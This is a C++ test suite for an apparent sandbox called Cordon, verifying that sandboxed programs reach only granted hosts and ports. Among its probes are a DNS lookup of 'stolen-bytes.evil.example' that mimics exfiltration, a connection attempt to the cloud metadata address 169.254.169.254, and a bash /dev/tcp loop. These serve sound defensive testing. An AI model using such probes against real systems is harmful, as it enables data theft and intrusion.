// Promise: a client that knows nothing of Cordon reaches the hosts and ports that a manifest names, by name and over
// both families; everything else is refused and named; nothing else leaves, not even a question for a name.

#include <linux/netlink.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <csignal>
#include <mutex>

#include "network/way_out.h"

namespace cordon::test {
namespace {

using nlohmann::json;
using testing::Contains;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

constexpr std::uint16_t kPort = 8080;

const std::string kGranted = rules({{"a.example", "8080"}});

class Egress : public WayOut {
 protected:
  WebServer web4{kPublic4, kPort, "over four"};
  WebServer web6{kPublic6, kPort, "over six"};
};
INSTANTIATE_TEST_SUITE_P(As, Egress, testing::ValuesIn(identities()), identity_name);

TEST_P(Egress, CurlReachesAGrantedNameOverBothFamilies) {
  const Finished four = sandboxed(program("/usr/bin/curl", {"-sS4", "http://a.example:8080/"}, kGranted));
  EXPECT_EQ(four.out, "over four") << four;
  EXPECT_EQ(four.err, "") << "a clean run says nothing of ours";
  const Finished six = sandboxed(program("/usr/bin/curl", {"-sS6", "http://a.example:8080/"}, kGranted));
  EXPECT_THAT(six.out, testing::AnyOf("over six", "over four")) << six;  // by which family it is dialled is the host's
  EXPECT_EQ(six.code, 0) << six;
}

TEST_P(Egress, WgetReachesIt) {
  const Finished got = sandboxed(program("/usr/bin/wget", {"-qO-", "http://a.example:8080/"}, kGranted));
  EXPECT_THAT(got.out, HasSubstr("over")) << got;
}

TEST_P(Egress, PythonReachesIt) {
  const Finished got = python(
      "print(urllib.request.urlopen('http://a.example:8080/').read().decode())\n"
      "c = http.client.HTTPConnection('a.example', 8080); c.request('GET', '/'); print(c.getresponse().status)\n",
      kGranted);
  EXPECT_THAT(got.out, testing::AllOf(HasSubstr("over "), HasSubstr("200"))) << got;
}

TEST_P(Egress, NodeReachesItByFetchAndByItsHttpModule) {
  scene.tree().write("work/main.mjs",
                     "import http from 'node:http';\n"
                     "console.log(await (await fetch('http://a.example:8080/')).text());\n"
                     "http.get('http://a.example:8080/', (r) => { console.log(r.statusCode); r.resume(); });\n");
  const Finished got = sandboxed("entrypoint: main.mjs\ninterpreter: " + real("/usr/bin/node") + "\n" + kGranted);
  EXPECT_THAT(got.out, testing::AllOf(HasSubstr("over "), HasSubstr("200"))) << got;
}

// A segment that is lost on the way to the broker comes again after a second: slow, and seen by no other test.
TEST_P(Egress, NothingIsSentTwiceFromTheStartToTheFirstAnswer) {
  for (const char* family : {"AF_INET", "AF_INET6"}) {
    const Finished got = python(
        "def counted():\n"
        "  names, values = [line.split()[1:] for line in open('/proc/self/net/snmp') if line.startswith('Tcp:')]\n"
        "  tcp = dict(zip(names, map(int, values)))\n"
        "  return tcp['RetransSegs'], tcp['OutSegs'] > 5\n"
        "print('before', counted()[0])\n"
        "to = socket.getaddrinfo('a.example', 8080, socket." +
            std::string(family) +
            ", socket.SOCK_STREAM)[0]\n"
            "s = socket.socket(to[0]); s.settimeout(9); s.connect(to[4]); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n"
            "print(s.recv(12).decode())\n"
            "print('after', *counted())\n",
        kGranted);
    EXPECT_EQ(got.out, "before 0\nHTTP/1.1 200\nafter 0 True\n") << family << got;
  }
}

TEST_P(Egress, AnotherNamePortOrAddressIsRefusedAndNamed) {
  const WebServer elsewhere(kOther4, kPort, "elsewhere");
  const WebServer beside(kPublic4, 8081, "beside");
  const std::string body =
      "def get(host, port):\n"
      "  s = socket.create_connection((host, port), 5); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); return s.recv(99)\n"
      "said('name', lambda: get('b.example', 8080))\n"
      "said('port', lambda: get('a.example', 8081))\n"
      "said('address', lambda: get('93.184.216.34', 8080))\n"
      "said('address6', lambda: get('2606:2800:220::1', 8080))\n"
      "said('metadata', lambda: get('169.254.169.254', 80))\n"
      "said('loopback', lambda: get('127.0.0.1', 8080))\n";
  const Finished got = python(body, kGranted, {"--json"});
  const json verdict = verdict_of(got);
  const auto at = [](const char* host, int port) { return json{{"host", host}, {"port", port}}; };
  for (const json& one : {at("b.example", 0), at("a.example", 8081), at("93.184.216.34", 8080),
                          at("2606:2800:220::1", 8080), at("169.254.169.254", 80)})
    EXPECT_THAT(verdict["egress_denied"], Contains(one)) << got;
  EXPECT_EQ(verdict["egress_connections"], 0);
  const Finished words = python(body, kGranted);
  EXPECT_THAT(words.out, Not(HasSubstr("HTTP/1.1")));
  EXPECT_TRUE(words.says("network: [{host: a.example, port: '8081'}]")) << words;
  EXPECT_TRUE(words.says("denied: reaching 93.184.216.34:8080")) << words;
  EXPECT_THAT(words.out, HasSubstr("address ECONNRESET"));
  EXPECT_THAT(words.out, HasSubstr("loopback ECONNREFUSED"));
}

TEST_P(Egress, NoQuestionLeavesForANameThatIsNotGranted) {
  NameServer names;
  const std::string body =
      "said('secret', lambda: socket.gethostbyname('stolen-bytes.evil.example'))\n"
      "said('looked up', lambda: socket.gethostbyname('dns.example'))\n";
  static_cast<void>(python(body, rules({{"dns.example", "8080"}})));
  EXPECT_THAT(names.asked(), IsEmpty()) << "a granted name is not resolved before a connection to it either";
  const Finished got = python(body + "print(urllib.request.urlopen('http://dns.example:8080/').read())\n",
                              rules({{"dns.example", "8080"}}));
  EXPECT_THAT(got.out, HasSubstr("over four")) << got;
  EXPECT_THAT(names.asked(), testing::AllOf(Contains("dns.example"), Not(Contains("stolen-bytes.evil.example"))));
}

TEST_P(Egress, AnInnerAddressIsBlockedUntilTheOperatorOpensIt) {
  const WebServer inner(kPrivate4, kPort, "inner");
  const std::string yaml =
      program("/usr/bin/curl", {"-sS", "http://inner.example:8080/"}, rules({{"inner.example", "*"}}));
  const Finished blocked = sandboxed(yaml);
  EXPECT_NE(blocked.code, 0);
  EXPECT_TRUE(blocked.says("blocked: inner.example:8080 is granted, but leads to " + std::string(kPrivate4) +
                           ", which is private (10.0.0.0/8)"))
      << blocked;
  EXPECT_TRUE(blocked.says("--allow-address " + std::string(kPrivate4) + ", or a block around it")) << blocked;
  EXPECT_EQ(sandboxed(yaml, {"--allow-address", kPrivate4}).out, "inner");
  EXPECT_EQ(sandboxed(yaml, {"--allow-address", "10.0.0.0/8"}).out, "inner");
  const Finished never = sandboxed(yaml, {"--allow-address", "127.0.0.0/8"});
  EXPECT_EQ(never.code, 125) << never;
}

TEST_P(Egress, WhatTheGuardBlocksIsSaidWhileTheClientStillTries) {
  const std::string manifest = scene.manifest(
      program("/bin/bash", {"-c", "for i in 1 2 3; do echo > /dev/tcp/inner.example/8080; done; read -r line"},
              rules({{"inner.example", "*"}})));
  Running running = scene.cordon({"run", "--allow-unapproved", manifest}).pty().start();
  EXPECT_TRUE(running.expect("blocked: inner.example:8080")) << running.seen();
  EXPECT_TRUE(running.expect("--allow-address")) << running.seen();
  running.type("go on\n");
  EXPECT_EQ(running.wait().code, 0);
}

TEST_P(Egress, AServiceOnTheHostsOwnAddressIsNotReachedUntilTheOperatorOpensIt) {
  const WebServer own4(kOwn4, kPort, "own");
  const WebServer own6(kOwn6, kPort, "own");
  const std::string body =
      "def get(host):\n"
      "  s = socket.create_connection((host, 8080), 5); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); return s.recv(99)\n"
      "for host in ['93.184.216.1', '2606:2800:220::ff', 'own.example', '93.184.216.34']: said(host, lambda: "
      "get(host))\n";
  const std::string everything = rules({{"*", "*"}});
  const Finished blocked = python(body, everything);
  for (const char* one : {"93.184.216.1 ECONNRESET", "2606:2800:220::ff ECONNRESET", "own.example ECONNRESET"})
    EXPECT_THAT(blocked.out, HasSubstr(one)) << blocked;
  EXPECT_THAT(blocked.out, HasSubstr("93.184.216.34 b'HTTP/1.1 200")) << "another machine's is" << blocked;
  EXPECT_TRUE(blocked.says("93.184.216.1:8080 is granted, but the address is this machine's own")) << blocked;
  const std::string led = "own.example:8080 is granted, but leads to ";
  EXPECT_TRUE(blocked.says(led + kOwn4 + ", which is this machine's own") ||
              blocked.says(led + kOwn6 + ", which is this machine's own"))
      << blocked;
  EXPECT_TRUE(blocked.says("host_services: [8080] in the manifest, or --allow-address 93.184.216.1")) << blocked;
  const json verdict = verdict_of(python(body, everything, {"--json"}));
  EXPECT_THAT(verdict["guard_blocked"], Contains(json{{"host", "own.example"}, {"port", kPort}}));
  const Finished opened = python(body, everything, {"--allow-address", "93.184.216.1/32"});
  EXPECT_THAT(opened.out, HasSubstr("93.184.216.1 b'HTTP/1.1 200")) << opened;
  EXPECT_THAT(opened.out, HasSubstr("own.example b'HTTP/1.1 200")) << opened;
  EXPECT_THAT(opened.out, HasSubstr("2606:2800:220::ff ECONNRESET")) << opened;
  EXPECT_TRUE(opened.says("or --allow-address 2606:2800:220::ff")) << opened;
}

TEST_P(Egress, TheHostsLoopbackIsNotReachedUnderAnyName) {
  const WebServer local("127.0.0.1", kPort, "local");
  const Finished got = python(
      "def get(host):\n"
      "  s = socket.create_connection((host, 8080), 5); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); return s.recv(99)\n"
      "for host in ['localhost', '127.0.0.1', '127.9.9.9', '0.0.0.0', '::1', '::ffff:127.0.0.1', '::ffff:10.1.2.3']:\n"
      "  said(host, lambda: get(host))\n",
      rules({{"*", "*"}}));
  EXPECT_THAT(got.out, Not(HasSubstr("200 OK"))) << got;
}

TEST_P(Egress, ARuleThatReachesNothingIsRefusedAtItsLineByEveryCommand) {
  for (const char* host : {"127.0.0.1", "::1", "localhost"}) {
    const std::string manifest = scene.manifest("entrypoint: /usr/bin/true\n" + rules({{host, "5432"}}));
    for (const std::vector<std::string>& words :
         {std::vector<std::string>{"run", "--allow-unapproved", "--allow-address", "10.0.0.0/8"},
          {"inspect"},
          {"approve", "--yes"}}) {
      std::vector<std::string> all = words;
      all.push_back(manifest);
      const Finished got = scene.cordon(all).run();
      EXPECT_EQ(got.code, 125) << got;
      EXPECT_TRUE(got.says("m.yaml:3:")) << got;
      EXPECT_TRUE(got.says("is the sandbox's own loopback inside")) << got;
      EXPECT_TRUE(got.says("host_services: [5432]")) << got;
    }
    const Finished valid = scene.cordon({"validate", manifest}).run();
    EXPECT_TRUE(valid.says("runnable:     no")) << valid;
    EXPECT_TRUE(valid.says("1 is refused")) << valid;
  }
}

TEST_P(Egress, TheTargetsOwnServersWorkOnGrantedPortsToo) {
  const Finished got = python(
      "def own(family, address, reached):\n"
      "  s = socket.socket(family); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
      "  s.bind((address, 8080)); s.listen(); c = socket.create_connection((reached, 8080), 5)\n"
      "  a, peer = s.accept(); a.sendall(b'mine'); return c.recv(9)\n"
      "said('four', lambda: own(socket.AF_INET, '127.0.0.1', '127.0.0.1'))\n"
      "said('any', lambda: own(socket.AF_INET, '0.0.0.0', '127.0.0.1'))\n"
      "said('six', lambda: own(socket.AF_INET6, '::', '::1'))\n"
      "s = socket.socket(); s.bind(('0.0.0.0', 8080)); s.listen()\n"
      "said('out', lambda: urllib.request.urlopen('http://a.example:8080/').read())\n",
      kGranted);
  for (const char* one : {"four b'mine'", "any b'mine'", "six b'mine'", "out b'over"})
    EXPECT_THAT(got.out, HasSubstr(one)) << got;
}

TEST_P(Egress, NobodyListensBesideTheBroker) {
  const Finished got = python(
      "def bind(kind, address, port, option):\n"
      "  s = socket.socket(socket.AF_INET, kind)\n"
      "  if option: s.setsockopt(socket.SOL_SOCKET, option, 1)\n"
      "  s.bind((address, port)); return 'bound'\n"
      "for option in [0, socket.SO_REUSEADDR, socket.SO_REUSEPORT]:\n"
      "  for kind, port in [(socket.SOCK_DGRAM, 53), (socket.SOCK_STREAM, 53), (socket.SOCK_STREAM, 1),\n"
      "                     (socket.SOCK_STREAM, 128)]:\n"
      "    for address in ['127.0.0.1', '198.18.0.1', '0.0.0.0']:\n"
      "      said('bind', lambda: bind(kind, address, port, option))\n",
      kGranted);
  EXPECT_THAT(got.out, Not(HasSubstr("bound"))) << got;
  EXPECT_THAT(got.out, HasSubstr("bind EACCES")) << got;
}

TEST_P(Egress, GetaddrinfoServesWhoeverAsksForOneFamily) {
  const Finished got = python(
      "for family in [socket.AF_UNSPEC, socket.AF_INET, socket.AF_INET6]:\n"
      "  said('found', lambda: sorted(a[4][0] for a in socket.getaddrinfo('a.example', 8080, family,\n"
      "       socket.SOCK_STREAM, 0, socket.AI_ADDRCONFIG)))\n",
      kGranted);
  EXPECT_THAT(got.out, HasSubstr("found ['198.18.0.2', 'fd63:6f72:646e::2']\nfound ['198.18.0.2']\n"
                                 "found ['fd63:6f72:646e::2']\n"))
      << got;
}

TEST_P(Egress, NothingButTcpAndDnsLeaves) {
  const Finished got = python(
      "def udp(address, port):\n"
      "  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.connect((address, port))\n"
      "  s.send(b'x'); return s.recv(9)\n"
      "said('udp', lambda: udp('93.184.216.34', 443))\n"
      "said('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))\n"
      "said('packet', lambda: socket.socket(17, socket.SOCK_RAW))\n",
      rules({{"*", "*"}}));
  EXPECT_THAT(got.out, HasSubstr("udp ECONNREFUSED")) << got;
  EXPECT_THAT(got.out, HasSubstr("raw EPROTONOSUPPORT")) << got;
  EXPECT_THAT(got.out, HasSubstr("packet EAFNOSUPPORT")) << got;
}

TEST_P(Egress, ASecondSandboxDoesNotReachTheFirst) {
  scene.tree().write("work/first.py",
                     "import socket, sys\n"
                     "s = socket.socket(); s.bind(('0.0.0.0', 7070)); s.listen(); print('listening', flush=True)\n"
                     "sys.stdin.read()\n");
  const std::string first =
      scene.manifest("entrypoint: first.py\ninterpreter: " + python_path() + "\n" + kGranted, "first.yaml");
  Running running = scene.cordon({"run", "--allow-unapproved", first}).pty().start();
  ASSERT_TRUE(running.expect("listening"));
  const Finished got = python(
      "for host in ['127.0.0.1', '198.18.0.1', '0.0.0.0']:\n"
      "  said(host, lambda: socket.create_connection((host, 7070), 5).recv(1) or 'closed')\n",
      rules({{"*", "*"}}));
  EXPECT_THAT(got.out, Not(HasSubstr("closed"))) << got;
  running.signal(SIGTERM);
  static_cast<void>(running.wait());
}

TEST_P(Egress, ABrokerThatIsKilledEndsTheRun) {
  scene.tree().write("work/wait.py", "import time\nprint('waiting', flush=True)\ntime.sleep(60)\n");
  const std::string manifest =
      scene.manifest("entrypoint: wait.py\ninterpreter: " + python_path() + "\n" + kGranted, "wait.yaml");
  for (const int signal : {SIGKILL, SIGSTOP}) {
    Running running = scene.cordon({"run", "--allow-unapproved", manifest}).pty().start();
    ASSERT_TRUE(running.expect("waiting"));
    const pid_t broker = broker_of(running.pid());
    ASSERT_GT(broker, 0);
    ASSERT_EQ(::kill(broker, signal), 0);
    const Finished ended = running.wait();
    EXPECT_EQ(ended.code, 124) << ended;
    EXPECT_TRUE(ended.says("cordon-broker was lost")) << ended;
  }
}

/// A paused container or a snapshot: nobody ran, and who goes on first must not judge the other.
TEST_P(Egress, ARunThatStoodStillAsAWholeGoesOn) {
  Running running = run_of(python_manifest("print('waiting', flush=True); sys.stdin.readline()\n"
                                           "said('got', lambda: urllib.request.urlopen('http://a.example:8080/', "
                                           "timeout=20).read().decode())\n") +
                           kGranted)
                        .pty()
                        .start();
  ASSERT_TRUE(running.expect("waiting")) << running.seen();
  const pid_t broker = broker_of(running.pid());
  ASSERT_GT(broker, 0);
  ASSERT_EQ(::kill(broker, SIGSTOP), 0);
  running.signal(SIGSTOP);
  ::usleep(3'000'000);  // longer than a broker may be silent
  running.signal(SIGCONT);
  ::usleep(200'000);
  ASSERT_EQ(::kill(broker, SIGCONT), 0);
  running.type("\n");
  const Finished ended = running.wait();
  EXPECT_EQ(ended.code, 0) << ended;
  EXPECT_THAT(ended.out, testing::HasSubstr("got over")) << ended;
}

TEST_P(Egress, AKernelWithoutNfTablesHasAListenerOnEachGrantedPort) {
  const auto without = [] { lose_sockets(AF_NETLINK, NETLINK_NETFILTER, EPROTONOSUPPORT); };
  const std::string manifest =
      scene.manifest(program("/usr/bin/curl", {"-sS", "http://a.example:8080/", "http://a.example:8081/"}, kGranted));
  const Finished got = scene.cordon({"run", "--allow-unapproved", manifest}).before(without).run();
  EXPECT_THAT(got.out, HasSubstr("over ")) << got;
  EXPECT_EQ(got.code, 7) << "the other port has no listener" << got;
  const std::string wide = scene.manifest(
      program("/usr/bin/curl", {"-sS", "http://a.example:8080/"}, rules({{"a.example", "*"}})), "w.yaml");
  const Finished refused = scene.cordon({"run", "--allow-unapproved", wide}).before(without).run();
  EXPECT_EQ(refused.code, 125) << refused;
  EXPECT_TRUE(refused.says("without nf_tables at most 256 ports can be granted")) << refused;
}

TEST_P(Egress, AHostWithoutIpv6HasNoneInside) {
  const std::string manifest = scene.manifest(program("/usr/bin/curl", {"-sS", "http://a.example:8080/"}, kGranted));
  const Finished got = scene.cordon({"run", "--allow-unapproved", manifest})
                           .before([] { lose_sockets(AF_INET6, -1, EAFNOSUPPORT); })
                           .run();
  EXPECT_EQ(got.out, "over four") << got;
}

TEST_P(Egress, TheProxyServesClientsThatWantOne) {
  const Finished got =
      sandboxed(program("/usr/bin/curl", {"-sSv", "http://a.example:8080/"}, kGranted), {"--proxy-env"});
  EXPECT_THAT(got.out, HasSubstr("over ")) << got;
  EXPECT_TRUE(got.says("127.0.0.1:128") || got.says("127.0.0.1 port 128")) << got;
}

TEST_P(Egress, NamesAreReachedThroughTheHostsOwnProxy) {
  std::string seen;
  std::mutex mutex;
  const Server proxy(kOther4, 3128, [&](const base::Fd& client) {
    const std::string head = head_from(client);
    const std::lock_guard lock(mutex);
    seen += head;
    write_all(client, "HTTP/1.1 200 OK\r\n\r\n");
    head_from(client);  // whole: closed with bytes unread, the answer would be lost to a reset
    write_all(client, "HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nvia");
  });
  const std::string manifest = scene.manifest(
      program("/usr/bin/curl", {"-sS", "http://nowhere.example:8080/"}, rules({{"nowhere.example", "8080"}})));
  const Finished got =
      scene.cordon({"run", "--allow-unapproved", manifest}).env("HTTPS_PROXY", "http://u:p@93.184.216.35:3128/").run();
  EXPECT_EQ(got.out, "via") << got;
  EXPECT_THAT(seen, testing::AllOf(HasSubstr("CONNECT nowhere.example:8080 "), HasSubstr("Basic dTpw")));
  const Finished none = scene.cordon({"run", "--allow-unapproved", "--upstream-proxy", "none", manifest})
                            .env("HTTPS_PROXY", "http://93.184.216.35:3128/")
                            .run();
  EXPECT_NE(none.code, 0) << none;
  EXPECT_TRUE(none.says("not reached: nowhere.example:8080")) << none;
}

}  // namespace
}  // namespace cordon::test
